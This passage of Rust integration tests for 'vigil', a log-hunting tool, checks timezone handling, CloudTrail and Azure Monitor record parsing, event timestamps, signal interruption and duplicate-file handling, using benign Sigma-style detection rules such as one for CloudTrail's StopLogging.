        "--timezone",
        "Europe/Berlin",
    ]);
    assert_eq!(hits[0]["timestamp"], "2026-12-03T21:15:11.456Z", "{hits:?}");
    let hits = hunt(&[
        "--logsource",
        "product=myapp",
        "--timezone",
        "-05:00",
        "--from",
        "2026-12-04T03:15:11Z",
    ]);
    assert_eq!(hits.len(), 1, "the bound is on the time in UTC: {hits:?}");
    // `local`: the zone of the machine running the hunt (TZ here).
    let out = crate::support::vigil()
        .env("TZ", "America/New_York")
        .args(["hunt", "--text", "--format", "jsonl", "--timezone", "local"])
        .args(["--logsource", "product=myapp", "-r", rules])
        .arg(&log)
        .output()
        .unwrap();
    let hits = jsonl(&ok(out));
    assert_eq!(hits[0]["timestamp"], "2026-12-04T03:15:11.456Z", "{hits:?}");
    let refused = crate::support::vigil()
        .args(["hunt", "--text", "--timezone", "Mars/Olympus", "-r", rules])
        .arg(&log)
        .output()
        .unwrap();
    assert_eq!(refused.status.code(), Some(2));
    let said = String::from_utf8_lossy(&refused.stderr);
    assert!(
        said.contains("--timezone") && said.contains("Europe/Berlin"),
        "{said}"
    );
}

#[test]
fn hunt_follows_dotted_paths_through_lists_of_objects() {
    // CloudTrail writes security-group rules as a list of objects; a rule names the path
    // through it, as the Elasticsearch backends' queries do.
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    std::fs::write(
        d.join("r.yml"),
        "title: World Open Ingress\nid: open\nlogsource:\n  product: aws\n  service: cloudtrail\ndetection:\n  sel:\n    eventName: AuthorizeSecurityGroupIngress\n    requestParameters.ipPermissions.items.ipRanges.items.cidrIp: 0.0.0.0/0\n  condition: sel\nlevel: high\n",
    )
    .unwrap();
    let event = |cidr: &str| {
        format!(
            r#"{{"eventSource":"ec2.amazonaws.com","eventName":"AuthorizeSecurityGroupIngress","requestParameters":{{"ipPermissions":{{"items":[{{"ipRanges":{{"items":[{{"cidrIp":"10.0.0.0/8"}}]}}}},{{"ipRanges":{{"items":[{{"cidrIp":"{cidr}"}}]}}}}]}}}}}}"#
        )
    };
    std::fs::write(
        d.join("ct.jsonl"),
        format!("{}\n{}\n", event("0.0.0.0/0"), event("192.168.0.0/16")),
    )
    .unwrap();
    let (rules, logs) = (d.join("r.yml"), d.join("ct.jsonl"));
    let found = jsonl(&ok(run(&[
        "hunt",
        "-r",
        rules.to_str().unwrap(),
        "--format",
        "jsonl",
        logs.to_str().unwrap(),
    ])));
    assert_eq!(found.len(), 1, "{found:?}");
    assert_eq!(found[0]["record_id"], 1);
}

/// JSON lines output gives each event as it was written, on one line: a document or an array's
/// element written over several lines loses its line breaks and indentation, never a number's
/// spelling (`1e3` came out `1000.0`, a 30-digit integer rounded), from a file, gzip or a pipe.
#[test]
fn hunt_writes_events_written_over_several_lines_as_they_were_written() {
    use std::io::Write;
    let dir = tempfile::tempdir().unwrap();
    let pretty = dir.path().join("pretty.json");
    std::fs::write(
        &pretty,
        "{\n  \"k\": \"prettyobj\",\n  \"n\": 1e3,\n  \"c\": 123456789012345678901234567890\n}\n",
    )
    .unwrap();
    let array = dir.path().join("arr.json");
    let array_text = "[\n  {\n    \"@timestamp\": \"2026-11-30T10:01:00Z\",\n    \"k\": \"prettyobj\",\n    \"v\": 1e3,\n    \"w\": [1, 2.50]\n  },\n  {\"@timestamp\": \"2026-11-30T10:02:00Z\", \"k\": \"prettyobj\", \"v\": 10E-2}\n]\n";
    std::fs::write(&array, array_text).unwrap();
    let gzipped = dir.path().join("arr.json.gz");
    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    gz.write_all(array_text.as_bytes()).unwrap();
    std::fs::write(&gzipped, gz.finish().unwrap()).unwrap();
    let events = |out: String| -> Vec<String> {
        out.lines()
            .map(|l| {
                let at = l.find(",\"event\":").expect(l) + ",\"event\":".len();
                l[at..l.len() - 1].to_owned()
            })
            .collect()
    };
    let hunt = ["hunt", "--search", "prettyobj", "--format", "jsonl"];
    let object = r#"{"k": "prettyobj","n": 1e3,"c": 123456789012345678901234567890}"#;
    let elements = [
        r#"{"@timestamp": "2026-11-30T10:01:00Z","k": "prettyobj","v": 1e3,"w": [1, 2.50]}"#,
        r#"{"@timestamp": "2026-11-30T10:02:00Z", "k": "prettyobj", "v": 10E-2}"#,
    ];
    let from_file = ok(run(&[&hunt[..], &[pretty.to_str().unwrap()]].concat()));
    assert_eq!(events(from_file), [object]);
    for file in [&array, &gzipped] {
        let out = ok(run(&[&hunt[..], &[file.to_str().unwrap()]].concat()));
        assert_eq!(events(out), elements, "{}", file.display());
    }
    let piped = output_with_input(
        crate::support::vigil().args(hunt).arg("-"),
        std::fs::read(&pretty).unwrap(),
    );
    assert_eq!(events(ok(piped)), [object]);
}

/// CloudTrail's delivery file (`{"Records":[…]}`, gzip'd, as it lands in S3) and Azure
/// Monitor's export (`{"records":[…]}`) are their records, one event each numbered by its place:
/// the file was read as one event, and no CloudTrail rule fired.
#[test]
fn hunt_reads_the_records_of_cloudtrail_and_azure_monitor_files() {
    use std::io::Write;
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    std::fs::write(
        d.join("r.yml"),
        "title: CloudTrail Logging Stopped\nid: stop\nlogsource:\n  product: aws\n  service: cloudtrail\ndetection:\n  sel:\n    eventSource: cloudtrail.amazonaws.com\n    eventName: StopLogging\n  condition: sel\nlevel: high\n",
    )
    .unwrap();
    let records = [
        r#"{"eventVersion":"1.08","eventTime":"2024-03-05T10:11:12Z","eventSource":"s3.amazonaws.com","eventName":"ListBuckets","awsRegion":"us-east-1"}"#,
        r#"{"eventVersion":"1.08","eventTime":"2024-03-05T10:12:12Z","eventSource":"cloudtrail.amazonaws.com","eventName":"StopLogging","awsRegion":"us-east-1","requestParameters":{"name":"main"}}"#,
    ];
    let cloudtrail = format!(r#"{{"Records":[{}]}}"#, records.join(","));
    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    gz.write_all(cloudtrail.as_bytes()).unwrap();
    let logs = d.join("AWSLogs");
    std::fs::create_dir(&logs).unwrap();
    std::fs::write(
        logs.join("123456789012_CloudTrail_us-east-1_20240305T1015Z_abc.json.gz"),
        gz.finish().unwrap(),
    )
    .unwrap();
    let rules = d.join("r.yml");
    let hunt = |path: &Path| {
        run(&[
            "hunt",
            "-r",
            rules.to_str().unwrap(),
            "--format",
            "jsonl",
            path.to_str().unwrap(),
        ])
    };
    let out = hunt(&logs);
    let said = String::from_utf8_lossy(&out.stderr).into_owned();
    assert!(said.contains("1 file, 2 events, 1 match"), "{said}");
    let found = jsonl(&ok(out));
    assert_eq!(found.len(), 1, "{found:?}");
    assert_eq!(found[0]["record_id"], 2);
    assert_eq!(found[0]["event"]["eventName"], "StopLogging");
    // Azure Monitor's export, pretty-printed, with the lowercase key.
    let azure = d.join("PT1H.json");
    let pretty: Vec<String> = records
        .iter()
        .map(|r| {
            let value: serde_json::Value = serde_json::from_str(r).unwrap();
            serde_json::to_string_pretty(&value).unwrap()
        })
        .collect();
    std::fs::write(
        &azure,
        format!("{{\n  \"records\": [\n{}\n  ]\n}}\n", pretty.join(",\n")),
    )
    .unwrap();
    let found = jsonl(&ok(hunt(&azure)));
    assert_eq!(found.len(), 1, "{found:?}");
    assert_eq!(found[0]["record_id"], 2);
}

/// Cloud services' events carry their own times (CloudTrail's `eventTime`, Okta's `published`,
/// Kubernetes audit's `requestReceivedTimestamp`, Entra ID's `createdDateTime`, Zeek's `ts`):
/// a window places them, and a match is dated by them, not left out as timeless.
#[test]
fn hunt_places_cloud_events_by_their_own_times() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    std::fs::write(
        d.join("r.yml"),
        "title: Anything Marked\nid: marked\nlogsource:\n  product: any\ndetection:\n  sel:\n    mark: x\n  condition: sel\nlevel: low\n",
    )
    .unwrap();
    let events = [
        r#"{"eventVersion":"1.08","eventTime":"2024-03-05T10:11:12Z","eventSource":"iam.amazonaws.com","eventName":"CreateUser","mark":"x"}"#,
        r#"{"eventType":"user.session.start","published":"2024-03-05T11:00:00.000Z","mark":"x"}"#,
        r#"{"kind":"Event","apiVersion":"audit.k8s.io/v1","stage":"ResponseComplete","verb":"create","requestReceivedTimestamp":"2024-03-05T12:00:00.000000Z","stageTimestamp":"2024-03-05T12:00:01.000000Z","mark":"x"}"#,
        r#"{"createdDateTime":"2024-03-05T13:00:00Z","userPrincipalName":"alice@contoso.com","mark":"x"}"#,
        r#"{"ts":1709647200.5,"uid":"C1","id.orig_h":"10.0.0.7","mark":"x"}"#,
        r#"{"eventTime":"2024-04-01T00:00:00Z","mark":"x"}"#,
    ];
    let logs = d.join("cloud.jsonl");
    std::fs::write(&logs, events.join("\n") + "\n").unwrap();
    let rules = d.join("r.yml");
    let output = run(&[
        "hunt",
        "-r",
        rules.to_str().unwrap(),
        "--format",
        "jsonl",
        "--from",
        "2024-03-05",
        "--to",
        "2024-03-06",
        logs.to_str().unwrap(),
    ]);
    let stderr = String::from_utf8_lossy(&output.stderr).into_owned();
    let found = jsonl(&ok(output));
    let times: Vec<&str> = found
        .iter()
        .map(|m| m["timestamp"].as_str().unwrap())
        .collect();
    assert_eq!(
        times,
        [
            "2024-03-05T10:11:12.000Z",
            "2024-03-05T11:00:00.000Z",
            "2024-03-05T12:00:00.000Z",
            "2024-03-05T13:00:00.000Z",
            "2024-03-05T14:00:00.500Z",
        ],
        "{stderr}"
    );
    assert!(
        stderr.contains("left out: 1 event outside --from/--to\n"),
        "{stderr}"
    );
}

/// Ctrl-C (or SIGTERM) stops a hunt as a closed pipe does: the lines written are whole, the
/// summary says it was interrupted, and the exit status is the signal's (130, 143). The hunt
/// is held in the middle by a FIFO given after a log of many matches, left open until the
/// hunt has said it is stopping.
#[test]
fn a_signal_stops_a_hunt_with_whole_lines_and_a_summary() {
    use std::io::BufRead;
    let dir = tempfile::tempdir().unwrap();
    fixture(dir.path());
    let lines: Vec<String> = (1..=300)
        .map(|i| {
            sysmon1(
                i,
                "2024-01-01T10:00:00Z",
                r"C:\Windows\System32\whoami.exe",
                "whoami /all",
            )
        })
        .collect();
    let log = dir.path().join("many.jsonl");
    std::fs::write(&log, lines.join("\n") + "\n").unwrap();
    for (signal, code, name) in [("-INT", 130, "Ctrl-C"), ("-TERM", 143, "SIGTERM")] {
        let fifo = dir.path().join(format!("held{signal}"));
        let made = std::process::Command::new("mkfifo")
            .arg(&fifo)
            .status()
            .unwrap();
        assert!(made.success());
        let out_path = dir.path().join(format!("out{signal}.jsonl"));
        let mut child = crate::support::vigil()
            .args(["hunt", "-r"])
            .arg(dir.path().join("rules"))
            .args(["--format", "jsonl", "-j", "2"])
            .arg(&log)
            .arg(&fifo)
            .stdout(std::fs::File::create(&out_path).unwrap())
            .stderr(std::process::Stdio::piped())
            .spawn()
            .unwrap();
        // Opening the FIFO to write waits for the hunt to open it to read.
        let writer = {
            let fifo = fifo.clone();
            std::thread::spawn(move || std::fs::OpenOptions::new().write(true).open(fifo))
        };
        let (said, heard) = std::sync::mpsc::channel();
        let stderr = std::io::BufReader::new(child.stderr.take().unwrap());
        let reader = std::thread::spawn(move || {
            let mut all = String::new();
            for line in stderr.lines() {
                let line = line.unwrap();
                let _ = said.send(line.clone());
                all.push_str(&line);
                all.push('\n');
            }
            all
        });
        // The matches of the first file are written (part of them, by the output's buffer)
        // while the hunt waits for the FIFO.
        crate::support::wait_for("the first matches", || {
            std::fs::metadata(&out_path).is_ok_and(|m| m.len() > 0)
        });
        let killed = std::process::Command::new("kill")
            .args([signal, &child.id().to_string()])
            .status()
            .unwrap();
        assert!(killed.success());
        loop {
            let line = heard
                .recv_timeout(std::time::Duration::from_secs(20))
                .expect("the hunt said nothing on the signal");
            if line.contains("interrupted by") {
                assert!(line.contains(name), "{line}");
                break;
            }
        }
        // The FIFO ends: the hunt, stopping, reads no further.
        drop(writer.join().unwrap().unwrap());
        let status = child.wait().unwrap();
        let stderr = reader.join().unwrap();
        assert_eq!(status.code(), Some(code), "{signal}: {status}\n{stderr}");
        assert!(
            stderr.contains(&format!("(stopped: interrupted by {name})")),
            "{stderr}"
        );
        let out = std::fs::read_to_string(&out_path).unwrap();
        assert!(out.ends_with('\n'), "a line cut short: {out}");
        let matches = jsonl(&out);
        assert_eq!(matches.len(), 300, "{stderr}");
        assert!(stderr.contains("300 matches"), "{stderr}");
    }
}

/// `vigil metrics` stops on Ctrl-C the same way: the counts of what it read, said to be
/// interrupted, exit status 130.
#[test]
fn a_signal_stops_metrics_with_the_counts_so_far() {
    use std::io::Read;
    let dir = tempfile::tempdir().unwrap();
    fixture(dir.path());
    let fifo = dir.path().join("held");
    let made = std::process::Command::new("mkfifo")
        .arg(&fifo)
        .status()
        .unwrap();
    assert!(made.success());
    let mut child = crate::support::vigil()
        .args(["metrics", "--json"])
        .arg(dir.path().join("logs/a.jsonl"))
        .arg(&fifo)
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    // The FIFO opens once the count reads it: the signal handlers are in place by then.
    let writer = std::fs::OpenOptions::new().write(true).open(&fifo).unwrap();
    let mut stderr = child.stderr.take().unwrap();
    let killed = std::process::Command::new("kill")
        .args(["-INT", &child.id().to_string()])
        .status()
        .unwrap();
    assert!(killed.success());
    // Its notice says it heard; then the FIFO ends.
    let mut heard = Vec::new();
    let mut byte = [0u8];
    while !String::from_utf8_lossy(&heard).contains("again stops at once") {
        assert_eq!(
            stderr.read(&mut byte).unwrap(),
            1,
            "no notice on the signal"
        );
        heard.push(byte[0]);
    }
    drop(writer);
    let out = child.wait_with_output().unwrap();
    stderr.read_to_end(&mut heard).unwrap();
    let said = String::from_utf8_lossy(&heard);
    assert_eq!(out.status.code(), Some(130), "{said}");
    assert!(said.contains("stopped: interrupted by Ctrl-C"), "{said}");
    let counts: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(counts["events"], 3, "{counts}");
}

/// Overlapping paths, and a link beside the file it names, are hunted once: each match is
/// reported once, and the summary says how many files were given twice.
#[test]
fn a_file_given_twice_is_hunted_once() {
    let dir = tempfile::tempdir().unwrap();
    fixture(dir.path());
    let logs = dir.path().join("logs");
    std::os::unix::fs::symlink(logs.join("a.jsonl"), dir.path().join("link.jsonl")).unwrap();
    let out = crate::support::vigil()
        .args(["hunt", "--format", "jsonl", "-r"])
        .arg(dir.path().join("rules"))
        .arg(&logs)
        .arg(logs.join("a.jsonl"))
        .arg(dir.path().join("link.jsonl"))
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
    let matches = jsonl(&ok(out));
    assert_eq!(matches.len(), 2, "{matches:?}\n{stderr}");
    assert!(
        stderr.contains(
            "2 files were found twice (overlapping paths given, or a link beside its file) and read once"
        ),
        "{stderr}"
    );
    assert_eq!(
        stderr.matches("found twice").count(),
        1,
        "said once: {stderr}"
    );
}
